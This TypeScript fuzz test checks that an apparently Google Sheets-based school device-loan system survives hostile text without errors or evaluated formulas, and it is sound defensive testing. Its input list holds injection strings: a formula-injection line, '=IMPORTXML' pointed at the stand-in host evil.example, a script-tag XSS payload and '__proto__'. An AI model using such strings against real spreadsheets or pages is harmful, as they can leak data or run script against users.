/** Any text anywhere: nothing throws, nothing is half-written, nothing becomes a formula. */
import fc from 'fast-check';
import type { Api } from '../../src/contract/api.ts';
import type { ImportFile } from '../../src/contract/imports.ts';
import { REFUSAL_CODES } from '../../src/contract/wire.ts';
import { ADMIN, click, handIn, livingSchool, type School } from '../server/google/school.ts';
import { DEVICE_HEADER, ORGS, student, USER_HEADER } from './support/lines.ts';

/** Texts that spreadsheets, CSV readers, forms and pages stumble over, and any other text. */
const nasty = fc.oneof(
  fc.constantFrom(
    '=1+1',
    '+1+1',
    '-1',
    '@SUM(A1)',
    '=IMPORTXML("http://evil.example","//a")',
    "'quoted",
    '"',
    '""',
    ',',
    '\t',
    '\r',
    '\n',
    '\u0000',
    '\ufeff',
    '\ud800',
    '\u202e',
    '1/2',
    'TRUE',
    '1e400',
    '2026-09-31',
    '0000-00-00',
    '9999-99-99',
    '6.37702E+15',
    'LF-0001',
    'lf 0001',
    'p-1',
    'D-000001',
    '#REF!',
    '__proto__',
    'constructor',
    '<script>alert(1)</script>',
    'x'.repeat(60_000),
  ),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.string({ unit: 'grapheme', maxLength: 30 }),
);
/** Google takes no longer text into a cell, nor into the cell under an answer of a form. */
const MOST_IN_A_CELL = 50_000;
const SEED = { seed: 20260901, endOnFailure: true } as const;

/** Devices and people as they are found in History's last words: no formula, no key twice, sums right. */
function expectSound(school: School): void {
  for (const { name } of school.file.tabs()) {
    const cells = school.file.rawValues(name).flat();
    expect(cells.filter((cell) => cell === '#NAME?')).toEqual([]);
  }
  for (const [tab, key] of [
    ['Devices', 'Device ID'],
    ['People', 'Person ID'],
    ['Loans', 'Loan ID'],
    ['Counts', 'Count ID'],
    ['Findings', 'Finding ID'],
    ['Deposits', 'Entry ID'],
  ] as const) {
    const ids = column(school, tab, key).filter((id) => id !== '');
    expect(new Set(ids).size).toBe(ids.length);
  }
  const out = column(school, 'Devices', 'Status').filter((status) => status === 'Out').length;
  expect(column(school, 'Loans', 'Status').filter((status) => status === 'Open')).toHaveLength(out);
}

function column(school: School, tab: string, header: string): string[] {
  const [headers = [], ...rows] = school.file.values(tab);
  const at = headers.indexOf(header);
  if (at < 0) throw new Error(`${tab} has no ${header}: ${headers.join()}`);
  return rows.map((row) => row[at] ?? '');
}

/** Runs a call as the page does; whatever came in, a reply that the contract knows comes out. */
function ask(school: School, name: keyof Api, request: unknown): boolean {
  // A minute passes, since Google counts the reads of a minute.
  school.world.advanceTo(school.world.now() + 61_000);
  const wire: unknown = JSON.parse(JSON.stringify(request));
  const result = school.project.run(name, [wire], ADMIN);
  if (!result.ok) throw new Error(`${name} threw: ${result.message}`);
  const reply = result.value as { ok: boolean; code?: string };
  if (!reply.ok) {
    expect(REFUSAL_CODES).toContain(reply.code);
    // A bug, or a request that Google refused: neither may come from mere text.
    if (reply.code === 'unexpected' || reply.code === 'google-failed')
      throw new Error(`${name}: ${JSON.stringify(reply)} ${result.execution.logs.join()}`);
  }
  return reply.ok;
}

const CALLS: { name: keyof Api; request: { [field: string]: unknown } }[] = [
  { name: 'loadDevice', request: { deviceId: 'D-000001' } },
  { name: 'loadPerson', request: { personId: 'p-1' } },
  { name: 'loadHistory', request: { tab: 'Devices', key: 'D-000001' } },
  { name: 'showRow', request: { tab: 'Devices', row: 2 } },
  { name: 'offerCheckOut', request: { deviceId: 'D-000001', personId: 'p-1' } },
  {
    name: 'checkOut',
    request: {
      commandId: '*',
      deviceId: 'D-000001',
      personId: 'p-1',
      due: '2026-12-01',
      condition: 'Good',
      accessories: ['Charger'],
    },
  },
  {
    name: 'checkIn',
    request: { commandId: '*', deviceId: 'D-000001', condition: 'Good', note: 'fine' },
  },
  {
    name: 'takeDeposit',
    request: { commandId: '*', personId: 'p-2', amount: 5000, method: 'Cash', reference: '7' },
  },
  { name: 'resolveFinding', request: { commandId: '*', findingId: 'F-000001', resolution: 'ok' } },
  { name: 'undo', request: { commandId: '*', number: 1 } },
  { name: 'continueImport', request: { importId: 'import-1' } },
  { name: 'undoImport', request: { commandId: '*', importId: 'import-1' } },
  {
    name: 'previewImport',
    request: {
      kind: 'devices',
      files: [{ name: 'devices.csv', text: 'serial,model\nSER1,Book\n' }],
      school: 'LMS',
      deployment: '1:1',
      schools: ['LMS'],
    },
  },
];

test('any text in any field of any request', () => {
  const school = livingSchool();
  let commands = 0;
  const fields = CALLS.flatMap((call) =>
    Object.keys(call.request).map((field) => ({ call, field })),
  );
  fc.assert(
    fc.property(fc.constantFrom(...fields), nasty, ({ call, field }, text) => {
      const { name, request } = call;
      commands += 1;
      const fresh = 'commandId' in request ? { commandId: `fuzz-${commands}-x` } : {};
      const value = Array.isArray(request[field]) ? [text] : text;
      ask(school, name, { ...request, ...fresh, [field]: value });
    }),
    { ...SEED, numRuns: 300 },
  );
  expectSound(school);
});

const cell = fc.oneof(
  { weight: 3, arbitrary: nasty.filter((text) => text.length < 1000) },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      'S-1',
      'SER1',
      'LMS',
      'student',
      'Tansy',
      'LF-0002',
      '5CD001',
      'p-1',
    ),
  },
);
const quoted = (text: string): string => `"${text.replace(/"/g, '""')}"`;

/** Good lines with some cells replaced by anything, quoted as they should be or not; and lines cut short. */
function fileWith(header: string, good: string): fc.Arbitrary<string> {
  const line = fc
    .tuple(
      fc.nat(99),
      fc.array(fc.tuple(fc.nat(), cell, fc.boolean()), { maxLength: 3 }),
      fc.option(fc.nat(40), { freq: 8 }),
    )
    .map(([id, changes, cut]) => {
      const cells = good.replaceAll('#', String(id)).split(',');
      for (const [at, text, wrap] of changes) cells[at % cells.length] = wrap ? quoted(text) : text;
      return cells.join(',').slice(0, cut ?? undefined);
    });
  return fc.array(line, { maxLength: 8 }).map((lines) => [header, ...lines].join('\n'));
}

test.each([
  [
    'devices',
    'devices.csv',
    DEVICE_HEADER,
    'g-#,SER#,Book,PROVISIONED,TAG-#,LMS-207,note,2029-06-06',
  ],
  ['roster', 'users.csv', USER_HEADER, student('S-#', 'Tansy#', 'Rook')],
] as const)('any text in a file of %s', (kind, name, header, good) => {
  const school = livingSchool();
  let imports = 0;
  fc.assert(
    fc.property(
      fc.oneof({ weight: 9, arbitrary: fileWith(header, good) }, { weight: 1, arbitrary: nasty }),
      (text) => {
        imports += 1;
        const files: ImportFile[] = [{ name, text }];
        if (kind === 'roster') files.push({ name: 'orgs.csv', text: ORGS });
        const seen = ask(school, 'previewImport', { kind, files });
        const start = { kind, files, unticked: [], leavers: 'keep', confirmShrink: true };
        const began = ask(school, 'startImport', { ...start, commandId: `fuzz-import-${imports}` });
        expect(began).toBe(seen);
      },
    ),
    { ...SEED, numRuns: 50 },
  );
  expectSound(school);
  expect(column(school, 'Devices', 'Asset tag').slice(0, 3)).toEqual([
    'LF-0001',
    'LF-0002',
    'LF-0003',
  ]);
});

test('any text as an answer of the count form', () => {
  const school = livingSchool();
  click(school, 'setUp');
  const boxes = ['What is missing?', 'What needs repair?', 'What needs replacing?'];
  const titles =
    school.world
      .forms()[0]
      ?.items()
      .map((item) => item.title) ?? [];
  const known = titles.filter((title) => boxes.includes(title));
  let answers = 0;
  fc.assert(
    fc.property(
      fc.array(nasty, { minLength: 1, maxLength: 4 }),
      fc.constantFrom(...known),
      (texts, box) => {
        answers += 1;
        school.world.advanceTo(school.world.now() + 61_000);
        handIn(school, {
          Room: 'LMS-207, Ms. Cricklewood',
          'Is everything here and working?': 'No, something is missing or broken',
          [box]: texts.join(' ').slice(0, MOST_IN_A_CELL),
        });
      },
    ),
    { ...SEED, numRuns: 60 },
  );
  school.project.fire('tick');
  expect(column(school, 'Counts', 'Count ID').filter(Boolean)).toHaveLength(answers);
  expect(failures(school)).toEqual([]);
  expectSound(school);
});

const CELLS = ['Devices', 'People', 'Rooms', 'Policies', 'Settings', 'Staff'] as const;

test('any text typed into any cell: the desk answers, and the cell put back, all is as before', () => {
  const school = livingSchool();
  fc.assert(
    fc.property(
      fc.constantFrom(...CELLS),
      fc.nat(20),
      fc.constantFrom(2, 3),
      nasty,
      (tab, at, row, text) => {
        const [headers = []] = school.file.values(tab);
        const header = headers[at % headers.length] ?? '';
        const letter = String.fromCharCode(65 + (at % headers.length));
        const before = school.file.values(tab)[row - 1]?.[at % headers.length] ?? '';
        school.file.edit(tab, `${letter}${row}`, [[text.slice(0, MOST_IN_A_CELL)]], ADMIN);
        for (const name of ['loadIndex', 'loadToday', 'offerCheckOut'] as const)
          ask(
            school,
            name,
            name === 'offerCheckOut' ? { deviceId: 'D-000001', personId: 'p-1' } : null,
          );
        expect(header).not.toBe('');
        school.file.edit(tab, `${letter}${row}`, [[before]], ADMIN);
      },
    ),
    { ...SEED, numRuns: 50 },
  );
  school.world.advanceTo(school.world.now() + 61_000);
  school.project.fire('tick');
  expect(failures(school)).toEqual([]);
  const lent = { commandId: 'fuzz-after-1', deviceId: 'D-000001', personId: 'p-1' };
  expect(ask(school, 'checkOut', lent)).toBe(true);
  expectSound(school);
});

/** Executions that ended otherwise than they should. */
function failures(school: School): string[] {
  return school.world
    .executions()
    .filter((run) => run.outcome !== 'completed')
    .map((run) => `${run.functionName}: ${run.message}`);
}
